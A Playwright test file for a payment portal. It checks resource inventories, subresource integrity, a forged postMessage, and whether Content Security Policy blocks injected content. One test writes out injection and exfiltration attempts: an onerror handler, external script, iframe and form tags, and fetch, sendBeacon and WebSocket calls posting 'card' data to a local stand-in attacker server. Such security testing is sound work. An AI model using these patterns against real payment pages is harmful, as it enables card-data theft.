import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page, Request } from '@playwright/test';
import { paymentPageCheck } from '../apps/api/src/cli/commands/payment-page-check.ts';
import { createOfficeClient } from '../apps/api/src/cli/office-client.ts';
import {
  findLine,
  type InventoryLine,
  type PagePart,
  readInventory,
} from '../apps/api/src/cli/payment-page/inventory.ts';
import { addCard } from './card-steps.ts';
import {
  addressOf,
  cardFrame,
  expectPaid,
  fillAll,
  importInvoice,
  openInvoice,
  pressPay,
} from './guest-payment-steps.ts';
import { openDashboard } from './portal-steps.ts';
import { systemUnderTest } from './support/system.ts';
import { expect, test } from './support/test.ts';

const KINDS: Record<string, PagePart['kind']> = {
  script: 'script',
  stylesheet: 'style',
  document: 'frame',
  image: 'image',
  fetch: 'connection',
  xhr: 'connection',
  ping: 'connection',
  eventsource: 'connection',
  websocket: 'connection',
  // The tab's icon.
  other: 'image',
};

/** Records what our page loads from now on; the provider's frame is the provider's. */
function watchRequests(context: BrowserContext): PagePart[] {
  const parts: PagePart[] = [];
  for (const page of context.pages()) {
    page.on('worker', (worker) => parts.push({ kind: 'worker', ...placeOf(new URL(worker.url())) }));
  }
  context.on('request', (request: Request) => {
    const isPage = request.isNavigationRequest() && request.frame().parentFrame() === null;
    const isInFrame = !request.isNavigationRequest() && request.frame().parentFrame() !== null;
    if (isPage) return;
    if (isInFrame) return expectProvider(request);
    parts.push({ kind: KINDS[request.resourceType()] ?? 'connection', ...placeOf(new URL(request.url())) });
  });
  return parts;
}

function placeOf({ origin, pathname, href }: URL): Pick<PagePart, 'from' | 'name'> {
  const { portalUrl, emulatorUrl } = systemUnderTest();
  if (origin === new URL(portalUrl).origin) return { from: 'portal', name: pathname };
  if (origin === new URL(emulatorUrl).origin) return { from: 'card-provider', name: pathname };
  return { from: 'error-reporter', name: href };
}

function expectProvider(request: Request): void {
  expect(placeOf(new URL(request.url())).from, request.url()).toBe('card-provider');
}

async function inlineScriptsOf(page: Page): Promise<PagePart[]> {
  const answer = await page.request.get(page.url());
  const html = await answer.text();
  const scripts = [
    ...html.matchAll(/<script(?![^>]*\b(?:src=|application\/json))[^>]*>([\s\S]*?)<\/script>/g),
  ];
  return scripts.map(([, text = '']) => ({ kind: 'inline-script', from: 'portal', name: text }));
}

/** Every part has a line in the inventory, and every line was used. */
function expectInventory(parts: PagePart[]): void {
  const inventory = readInventory();
  const strangers = parts.filter((part) => !findLine(inventory, part));
  expect(strangers, 'what the inventory has no line for').toEqual([]);
  const met = new Set<InventoryLine | undefined>(parts.map((part) => findLine(inventory, part)));
  const missing = inventory.filter((line) => line.always && !met.has(line));
  expect(missing, 'lines of the inventory that nothing is there for').toEqual([]);
}

test('a guest’s payment page loads what the inventory says, and nothing else', async ({
  page,
  office,
  context,
}) => {
  const invoice = await importInvoice(office);
  const parts = watchRequests(context);
  await openInvoice(page, invoice);
  const inline = await inlineScriptsOf(page);
  await fillAll(page);
  await pressPay(page, '$108.25');
  await expectPaid(page, '$108.25');
  expectInventory([...parts, ...inline]);
});

test('the page that saves a card loads what the inventory says, and nothing else', async ({
  page,
  office,
  context,
  request,
}) => {
  const invoice = await importInvoice(office);
  await openDashboard(page, request, { invoices: [invoice] });
  const parts = watchRequests(context);
  await page.goto('/payment-methods/add');
  const inline = await inlineScriptsOf(page);
  await addCard(page);
  expectInventory([...parts, ...inline]);
});

test('the check that operators run finds nothing wrong, and the same again', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'brightpane-payment-page-'));
  try {
    const lines: string[] = [];
    const portal = createOfficeClient({ PUBLIC_URL: systemUnderTest().portalUrl });
    const check = (...parameters: string[]) =>
      paymentPageCheck(portal, ['--baseline', join(folder, 'approved.json'), ...parameters], (line) =>
        lines.push(line),
      );
    await check('--approve');
    await check();
    expect(lines).toEqual([
      expect.stringMatching(/^Approved: \d{3} findings on 2 pages/),
      expect.stringMatching(/^Unchanged since .*: \d{3} findings on 2 pages/),
    ]);
  } finally {
    await rm(folder, { recursive: true });
  }
});

for (const extension of ['js', 'css']) {
  test(`a ${extension} file of ours that was altered on its way is not used`, async ({
    page,
    consoleGuard,
  }) => {
    consoleGuard.allow(/integrity/);
    const complaints: string[] = [];
    page.on('console', (message) => complaints.push(message.text()));
    await page.route(`**/assets/*.${extension}`, async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, body: `${await answer.text()}\n/* one more byte */` });
    });
    await page.goto('/guest-payment');
    await expect
      .poll(() => complaints.filter((text) => text.includes('integrity')).length)
      .toBeGreaterThan(0);
    const used = () =>
      page.evaluate(() => ({
        js: '__reactRouterRouteModules' in window,
        css: [...document.styleSheets].some(({ href }) => href !== null),
      }));
    // The other kind may come after the complaint.
    await expect.poll(used).toEqual({ js: extension !== 'js', css: extension !== 'css' });
    await page.unrouteAll({ behavior: 'ignoreErrors' });
  });
}

/** A foreign site that counts its visits. */
async function startForeignSite(): Promise<{ url: string; visits: string[]; server: Server }> {
  const visits: string[] = [];
  const server = createServer((request, response) => {
    visits.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
    response.end('window.taken = true');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, visits, server };
}

test('what gets into a page cannot run, load, post or speak to anybody, and is reported', async ({
  page,
  office,
  consoleGuard,
}) => {
  consoleGuard.allow(/Content Security Policy|violates|Refused|blocked|Failed to load resource/i);
  const foreign = await startForeignSite();
  try {
    const invoice = await importInvoice(office);
    await page.addInitScript(() => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        seen.push(effectiveDirective),
      );
    });
    await openInvoice(page, invoice);
    await expect(cardFrame(page).getByLabel('Card number')).toBeVisible();
    expect(await violations(page)).toEqual([]);

    await page.evaluate((elsewhere) => {
      const add = <Name extends keyof HTMLElementTagNameMap>(
        name: Name,
        fill: (element: HTMLElementTagNameMap[Name]) => void,
      ) => {
        const element = document.createElement(name);
        fill(element);
        document.body.append(element);
        return element;
      };
      add('script', (script) => {
        script.textContent = 'window.taken = true';
      });
      add('script', (script) => {
        script.src = `${elsewhere}/script.js`;
      });
      add('div', (box) => {
        box.innerHTML = '<img src="data:,x" onerror="window.taken = true">';
      });
      add('iframe', (frame) => {
        frame.src = `${elsewhere}/frame`;
      });
      add('img', (image) => {
        image.src = `${elsewhere}/image.png`;
      });
      add('link', (link) => {
        link.rel = 'stylesheet';
        link.href = `${elsewhere}/style.css`;
      });
      add('style', (style) => {
        style.textContent = 'body { background: red }';
      });
      add('object', (object) => {
        object.data = `${elsewhere}/object`;
      });
      add('base', (base) => {
        base.href = `${elsewhere}/`;
      });
      add('form', (form) => {
        form.method = 'post';
        form.action = `${elsewhere}/form`;
        form.target = '_self';
      }).submit();
      setTimeout('window.taken = true');
      void fetch(`${elsewhere}/fetch`, { method: 'POST', body: 'card', mode: 'no-cors' }).catch(() => {});
      navigator.sendBeacon(`${elsewhere}/beacon`, 'card');
      try {
        new WebSocket(elsewhere.replace('http', 'ws'));
      } catch {
        // Some browsers throw instead.
      }
    }, foreign.url);

    const stopped = [
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ];
    await expect.poll(async () => [...new Set(await violations(page))].sort()).toEqual(stopped);
    expect(await page.evaluate(() => 'taken' in window)).toBe(false);
    expect(foreign.visits).toEqual([]);
    await expect.poll(reportedDirectives).toEqual(expect.arrayContaining(stopped));
  } finally {
    foreign.server.closeAllConnections();
    foreign.server.close();
  }
});

const violations = (page: Page) => page.evaluate(() => (window as unknown as { seen: string[] }).seen);

/** The directives that browsers reported, from the portal's log. */
async function reportedDirectives(): Promise<string[]> {
  const log = await readFile(join(systemUnderTest().logFolder, 'portal.log'), 'utf8');
  // The last line may be in the middle of being written.
  const lines = log
    .split('\n')
    .slice(0, -1)
    .filter((line) => line.includes('a browser reports'));
  return [
    ...new Set(lines.map((line) => (JSON.parse(line) as { report: { directive: string } }).report.directive)),
  ];
}

test('only the provider’s own frame can say that it is ready', async ({ page, office, context }) => {
  const invoice = await importInvoice(office);
  let letFrameCome = () => {};
  const frameMayCome = new Promise<void>((resolve) => {
    letFrameCome = resolve;
  });
  await context.route('**/js/v2/card.html*', async (route) => {
    await frameMayCome;
    await route.continue();
  });
  // The page is not all there while the frame is kept back.
  await page.goto(addressOf(invoice), { waitUntil: 'commit' });
  const field = page.locator('.card-frame');
  await expect(page.locator('#paymentCardIFrame')).toBeAttached();

  await page.evaluate(async () => {
    const heard = new Promise((resolve) => window.addEventListener('message', resolve, { once: true }));
    window.postMessage('ready::true', '*');
    await heard;
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  });
  expect(await field.getAttribute('data-state')).toBe('loading');

  letFrameCome();
  await expect(field).toHaveAttribute('data-state', 'ready');
});
